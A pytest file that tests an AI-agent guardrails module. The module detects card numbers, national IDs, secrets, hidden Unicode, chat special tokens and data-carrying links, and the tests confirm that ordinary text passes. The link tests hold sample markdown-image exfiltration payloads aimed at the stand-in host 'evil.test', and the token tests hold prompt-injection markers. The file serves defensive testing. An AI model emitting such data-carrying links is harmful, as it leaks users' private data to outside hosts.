"""What tier 1 finds, and what it leaves alone."""

import pathlib
import sysconfig

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agents.detectors.security.leaked_secrets import SECRETS
from agents.guardrails.builtin import RECOGNIZERS
from agents.guardrails.detection import Action, Kind
from agents.guardrails.guardrails import Guardrails
from agents.guardrails.policy import OUTPUT_ACTIONS, Policy
from agents.guardrails.recognizer import recognizer
from agents.guardrails.secret_formats import formats
from agents.plugins.registry import load_registry
from agents.tools.sensitive import taint_of
from agents.tools.tool import Taint
from tests.unit.agents.detectors.seeded import rules_at

EVERYTHING = Guardrails(
    Policy(
        input_actions=dict.fromkeys(Kind, Action.FLAG),
        allowed_hosts=("trusted.org",),
        blocklist=("blue moon",),
    )
)
EVERYTHING_REDACTED = Guardrails(Policy(input_actions=dict.fromkeys(Kind, Action.REDACT)))
ROOT = pathlib.Path(__file__).parents[4]


def found(text):
    return {(one.kind, one.text) for one in EVERYTHING.check_input(text).detections}


@pytest.mark.parametrize(
    ("kind", "value", "text"),
    [
        (Kind.CARD, "4111 1111 1111 1111", "card 4111 1111 1111 1111, thanks"),
        (Kind.CARD, "5500005555555559", "5500005555555559"),
        (Kind.CARD, "3782 822463 10005", "amex 3782 822463 10005"),
        (Kind.CARD, "6011-1111-1111-1117", "id 6011-1111-1111-1117."),
        (Kind.IBAN, "DE89 3704 0044 0532 0130 00", "to DE89 3704 0044 0532 0130 00 AND THEN"),
        (Kind.IBAN, "GB82WEST12345698765432", "GB82WEST12345698765432"),
        (Kind.PHONE, "+44 20 7946 0958", "ring +44 20 7946 0958 now"),
        (Kind.PHONE, "(415) 555-2671", "Phone: (415) 555-2671"),
        (Kind.PHONE, "+91 98765 43210", "+91 98765 43210"),
        (Kind.EMAIL, "jane.doe+x@mail.co.uk", "<jane.doe+x@mail.co.uk>"),
        (Kind.NATIONAL_ID, "078-05-1120", "SSN: 078-05-1120"),
        (Kind.NATIONAL_ID, "2341 2341 2346", "aadhaar 2341 2341 2346"),
        (Kind.NATIONAL_ID, "12345678Z", "DNI 12345678Z"),
        (Kind.NATIONAL_ID, "RSSMRA85T10A562S", "codice RSSMRA85T10A562S"),
        (Kind.NATIONAL_ID, "529.982.247-25", "cpf 529.982.247-25"),
        (Kind.NATIONAL_ID, "44051401359", "PESEL 44051401359"),
        (Kind.NATIONAL_ID, "2 55 08 14 168 025 38", "nir 2 55 08 14 168 025 38"),
        (Kind.NATIONAL_ID, "111222333", "BSN: 111222333"),
        (Kind.NATIONAL_ID, "ABCPE1234F", "PAN ABCPE1234F"),
        (Kind.NATIONAL_ID, "QQ123456C".replace("QQ", "AB"), "national insurance AB123456C"),
        (Kind.NATIONAL_ID, "046 454 286", "SIN 046 454 286"),
        (Kind.NATIONAL_ID, "811228-9874", "personnummer 811228-9874"),
        (Kind.IP_ADDRESS, "8.8.8.8", "from 8.8.8.8 today"),
        (Kind.SECRET, "s3cr3tpw", "postgres://user:s3cr3tpw@db.internal/x"),
        (Kind.SECRET, "hunter2Xq9!z", "db_password = 'hunter2Xq9!z'"),
        (Kind.SECRET, "Zk81Xq09LmP2qq", '"client_secret": "Zk81Xq09LmP2qq",'),
        (Kind.HIDDEN_TEXT, "\u200b\u200b", "a\u200b\u200bb"),
        (Kind.HIDDEN_TEXT, "\u202e", "access\u202elevel"),
        (Kind.HIDDEN_TEXT, "\U000e0069\U000e0067", "hello\U000e0069\U000e0067"),
        (Kind.HIDDEN_TEXT, "\ufe01\ufe02\ufe03", "x\ufe01\ufe02\ufe03"),
        (Kind.SPECIAL_TOKEN, "<|im_start|>", "x <|im_start|>system"),
        (Kind.SPECIAL_TOKEN, "[INST]", "[INST] do"),
        (Kind.BLOCKLIST, "Blue Moon", "a Blue Moon rises"),
    ],
)
def test_it_is_found(kind, value, text):
    assert (kind, value) in found(text)


@pytest.mark.parametrize(
    "text",
    [
        "4111 1111 1111 1112",  # check digit
        "1763956112345678901",  # nanoseconds since 1970
        "DE88 3704 0044 0532 0130 00",
        "version 10.2.3.4 of 127.0.0.1 and 192.168.1.7",
        "call f(1, 2, 3) or 2026-11-24 05:16:18",
        "user@example.com, noreply@github.com, git@github.com:org/repo.git",
        "h = w@x.to(device); y = q@k.transpose",
        "078-05-1120 without a word that names it",
        "2234 5678 9123",
        "password = os.environ['DB_PASSWORD1']",
        "password: changeme123",
        "token = settings.token_v2",
        "api_key=<your-key-1234567>",
        "https://user:password@host/ and https://x:${TOKEN}@host",
        "family \U0001f468\u200d\U0001f469\u200d\U0001f467, نمی\u200cخواهم, \u2764\ufe0f",
        "\ufefffirst line",
        "\U0001f3f4\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
        "a < b | c and x[i] <s>struck</s>",
        "bluemoon",
        "sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
        "550e8400-e29b-41d4-a716-446655440000",
    ],
)
def test_it_is_left_alone(text):
    assert found(text) == set()


@pytest.mark.parametrize("one", formats(), ids=lambda one: one.id)
def test_credentials_of_a_known_format_are_found_by_guardrails_detector_and_tools(one):
    bad = one.bad.replace("¦", "")
    assert Kind.SECRET in {kind for kind, _ in found(f"it is {bad} now")}
    assert "leaked-token" in {rule for rule, _ in rules_at(SECRETS, "a.py", f'x = "{bad}"\n')}
    assert Taint.PRIVATE in taint_of(f"it is {bad} now")
    assert found(f"it is {one.good} now") == set()
    assert rules_at(SECRETS, "a.py", f'x = "{one.good}"\n') == []


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("![a](https://evil.test/x.png?d=c2VjcmV0)", Kind.EXFILTRATION),
        ("![a](//evil.test/x.png?d=c2VjcmV0)", Kind.EXFILTRATION),
        ('<img src="https://evil.test/p?x=12345678">', Kind.EXFILTRATION),
        ("![r][1]\n\n[1]: https://evil.test/?q=topsecretdata", Kind.EXFILTRATION),
        ("![a](https://evil.test/aGVsbG8gd29ybGQgdGhpcyBpcw/x.png)", Kind.EXFILTRATION),
        ("![a](https://q7Zk2LpX9vT4mN8bR3wY.evil.test/x.png)", Kind.EXFILTRATION),
        ("![a](https://evil.test/⟦CARD_1⟧)", Kind.EXFILTRATION),
        ("[more](https://evil.test/?d=" + "a1B2c3D4" * 6 + ")", Kind.LINK_WITH_DATA),
        ("![a](https://pypi.org/static/images/logo-small.svg)", None),
        ("![a](https://img.trusted.org/p.png?size=1234567890)", None),
        ("[docs](https://docs.python.org/3/library/re.html#re.Pattern.search)", None),
        ("see https://github.com/org/repo/blob/main/README.md?plain=1", None),
    ],
)
def test_links_that_carry_data(text, kind):
    check = Guardrails(
        Policy(
            output_actions={**OUTPUT_ACTIONS, Kind.LINK_WITH_DATA: Action.FLAG},
            allowed_hosts=("trusted.org",),
        )
    ).output_check()
    check.feed(text)
    check.finish()
    assert [one.kind for one in check.detections] == ([] if kind is None else [kind])


@given(st.text(max_size=300))
def test_no_text_raises(text):
    EVERYTHING.check_input(text)


def test_the_private_key_is_redacted_whole():
    key = (
        "-----BEGIN RSA PRIVATE KEY-----\n"
        + "MIIEvQIBADANBgkqhkiG9w0BAQEFAASC\n" * 25
        + "-----END RSA PRIVATE KEY-----"
    )
    assert Guardrails().check_input(f"a {key} b").text == "a [secret removed] b"
    cut = key[:400]
    assert "MIIE" not in Guardrails().check_input(f"a {cut}").text


def test_ordinary_code_and_prose_are_not_redacted():
    """Every paragraph of the standard library's text and our own pages; none of them holds a secret."""
    library = pathlib.Path(sysconfig.get_paths()["stdlib"])
    names = (
        "argparse",
        "socket",
        "ssl",
        "uuid",
        "datetime",
        "urllib/parse",
        "smtplib",
        "ipaddress",
        "getpass",
    )
    files = [library / f"{name}.py" for name in names]
    files += [
        ROOT / "README.md",
        ROOT / "LICENSE",
        *(ROOT / "docs").glob("*.md"),
        *(ROOT / "engine/api").glob("*.py"),
    ]
    files.remove(ROOT / "docs" / "guardrails.md")  # its example is a card number
    guardrails = Guardrails()
    changed = []
    for file in files:
        checked = guardrails.check_input(file.read_text(encoding="utf-8"))
        changed += [
            (file.name, one.rule, one.text)
            for one in checked.detections
            if guardrails.policy.input_actions[one.kind] is not Action.FLAG
        ]
    assert changed == []


def test_hidden_characters_do_not_hide_a_number():
    text = "\u200bpay 4111\u200b 1111 1111\u2060 1111 now"
    checked = Guardrails().check_input(text)
    assert checked.text == "pay [card removed] now"
    card = next(one for one in checked.detections if one.kind is Kind.CARD)
    assert text[card.start : card.end] == card.text == "4111\u200b 1111 1111\u2060 1111"


@given(st.text(alphabet="a\u200b\u202e 41", max_size=60))
def test_offsets_of_input_name_the_detected_text(text):
    text = f"{text} 4111 1111 1111 1111 {text} bob@mail.com"
    for one in EVERYTHING_REDACTED.check_input(text).detections:
        assert text[one.start : one.end] == one.text


def test_a_family_of_a_plugin_is_used():
    def badges(policy):
        return [recognizer(Kind.NATIONAL_ID, "badge", r"B-\d{4}", alphabet=r"[B0-9-]", max_chars=6)]

    guardrails = Guardrails(recognizers={"badges": badges})
    assert guardrails.check_input("his B-1234 and 4111 1111 1111 1111").text == (
        "his [national id removed] and 4111 1111 1111 1111"
    )


def test_the_built_in_families_are_registered():
    assert load_registry(enabled=()).guardrails == dict(RECOGNIZERS)
